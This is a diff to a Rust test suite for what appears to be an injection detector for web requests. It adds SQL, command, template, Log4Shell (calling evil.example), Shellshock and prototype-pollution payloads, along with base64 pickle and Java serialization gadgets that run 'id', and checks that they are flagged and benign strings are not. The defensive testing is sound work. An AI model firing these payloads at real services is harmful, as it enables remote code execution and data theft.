@@ -55,6 +55,12 @@ const ATTACKS: &[(Injection, &[&str])] = &[
             "-1 /*!50000UNION*/ /*!50000SELECT*/ 1,2,3",
             "' and left(database(),2)>'sa'-- ",
             "abc' = !!'0",
+            "1'or'a='a",
+            "' delete from users",
+            "x'>email--",
+            "' and email not similar to id--",
+            "1' and starts_with(password,'t') and 'true",
+            "x' OR '{\"b\":2}'::jsonb <@ '{\"a\":1}'::jsonb",
         ],
     ),
     (
@@ -71,6 +77,11 @@ const ATTACKS: &[(Injection, &[&str])] = &[
             "& echo 1 | powershell -enc aaaa",
             "system('id')",
             "cat$IFS/tmp/x",
+            "\"><!--#exec cmd=\"dir\"-->",
+            "& for /f \"delims=\" %i in ('set') do echo %i",
+            "x;zsh -c id",
+            "`cat<<<x`; cat<<<x",
+            "#{require.main.constructor._load('fs')}",
         ],
     ),
     (
@@ -95,6 +106,16 @@ const ATTACKS: &[(Injection, &[&str])] = &[
             "T(java.lang.Runtime).getRuntime().exec('id')",
             "{{config.items()}}",
             "O:8:\"stdClass\":0:{}",
+            "gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
+            "gAJjb3MKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg==",
+            "Y3Bvc2l4CnN5c3RlbQpwMAooVmlkCnAxCnRwMgpScDMKLg==",
+            "rO0ABXNyAAxqYXZhLm5ldC5VUkyWJTc2GvzkcgMAB0kACGhhc2hDb2RlSQAEcG9ydA==",
+            "_$$ND_FUNC$$_function(){}()",
+            "$1:__proto__:then",
+            "!!python/object/apply:os.system [id]",
+            "{{request|attr('application')}}",
+            "{{['id']|filter('system')}}",
+            "@{[system 'id']}",
             "<?php system($_GET['c']); ?>",
         ],
     ),
@@ -169,7 +190,13 @@ fn paths_and_lines_count_in_heads_only() {
     let kinds_of = |target: &str| kinds(in_target(target.as_bytes(), &key()));
     assert_eq!(kinds_of("/files/..%2f..%2f..%2fsecret"), [Injection::Path]);
     assert_eq!(kinds_of("/files/..%252f..%252fsecret"), [Injection::Path]);
-    assert_eq!(kinds_of("/a?next=%0d%0aSet-Cookie:%20a=b"), [Injection::HeaderLine]);
+    assert_eq!(kinds_of("/a?next=%0d%0aSet-Cookie:%20a=b"), [Injection::ForgedLine]);
+    assert_eq!(kinds_of("/a?to=x%0aRCPT%20TO:%20b@x.example"), [Injection::ForgedLine]);
+    assert_eq!(kinds_of("/a?n=21%0aINFO:%20User%20logged%20out"), [Injection::ForgedLine]);
+    assert_eq!(kinds_of("/a?q={cat,/tmp/x}"), [Injection::Command]);
+    assert_eq!(kinds_of("/a?q=c''at%20/tmp/x"), [Injection::Command]);
+    assert_eq!(kinds_of("/a?q=/%3f%3f%3f/c%3ft"), [Injection::Command]);
+    assert_eq!(kinds_of("/a?q=(![]%2B[])[%2B[]]"), [Injection::Script]);
     assert_eq!(kinds_of("/a?q=%3Cscript%20src=//evil.example/a.js%3E"), [Injection::Script]);
     assert_eq!(kinds_of("/a?q=x%0a/bin/sh%20-i"), [Injection::Command]);
     for letter in [
@@ -177,6 +204,8 @@ fn paths_and_lines_count_in_heads_only() {
         "X:\r\nLocation: Vienna\r\n",
         "<script src=\"/a.js\"></script>",
         "C:\\Windows\\System32\\cmd.exe",
+        "Dear Ann,\r\nINFO: 2 parcels\r\n",
+        "/etc/nginx/*.conf",
         "mount /etc/hosts and /proc/self there",
     ] {
         assert_eq!(in_json(letter), [], "{letter}");
@@ -238,6 +267,14 @@ fn a_target_in_absolute_form_and_plain_ones_are_nothing() {
 }
 
 #[test]
+fn prototypes_are_told_by_a_parameters_name() {
+    for target in ["/a?__proto__[admin]=1", "/a?__proto__.admin=1", "/a?constructor[prototype][admin]=1"] {
+        assert_eq!(kinds(in_target(target.as_bytes(), &key())), [Injection::Expression], "{target}");
+    }
+    assert_eq!(kinds(in_target(b"/a?ids[]=1&filter[name]=x&constructor.name=Lotus", &key())), []);
+}
+
+#[test]
 fn operators_in_a_login_are_told() {
     assert_eq!(kinds(in_target(b"/login?user[$ne]=x&password[$ne]=x", &key())), [Injection::Query]);
     assert_eq!(kinds(in_target(b"/items?age[$gt]=5", &key())), []);
@@ -265,6 +302,27 @@ fn entities_from_elsewhere_are_told() {
 fn addresses_in_fields_are_where_one_comes_from() {
     assert_eq!(kinds(in_field(b"http://localhost:3000/{x}", &key())), []);
     assert_eq!(kinds(in_field(b"${jndi:ldap://evil.example/a}", &key())), [Injection::Expression]);
+}
+
+#[test]
+fn look_ups_are_told_in_every_field_and_objects_in_cookies() {
+    assert_eq!(kinds(in_other_field(b"none${jndi:ldap://evil.example/a}", &key())), [Injection::Expression]);
+    assert_eq!(kinds(in_other_field(b"() { :; }; /bin/id", &key())), [Injection::Command]);
+    assert_eq!(kinds(in_other_field(br#"{"q": "' or '1'='1", "t": "{{7*7}}"}"#, &key())), []);
+    assert_eq!(kinds(in_field(b"cat /etc/passwd", &key())), [Injection::Path]);
+    let pickle = b"theme=dark; user=gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==";
+    assert_eq!(kinds(in_cookies(pickle, &key())), [Injection::Expression]);
+    let harmless = b"theme=dark; user=gASVFgAAAAAAAAB9lCiMAWGUSwGMAWKUjAFjlHUu; v=rO0ABXQABWhlbGxv; w=gAN9cQAu";
+    assert_eq!(kinds(in_cookies(harmless, &key())), []);
+}
+
+#[test]
+fn a_files_name_that_leads_out_of_its_folder_is_told() {
+    let part = |name: &str| {
+        format!("--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{name}\"\r\n\r\nx\r\n--b--")
+    };
+    assert_eq!(kinds(in_body(BodyKind::Multipart, part("../../x.jsp").as_bytes(), &key())), [Injection::Path]);
+    assert_eq!(kinds(in_body(BodyKind::Multipart, part("a..b.pdf").as_bytes(), &key())), []);
 }
 
 #[test]
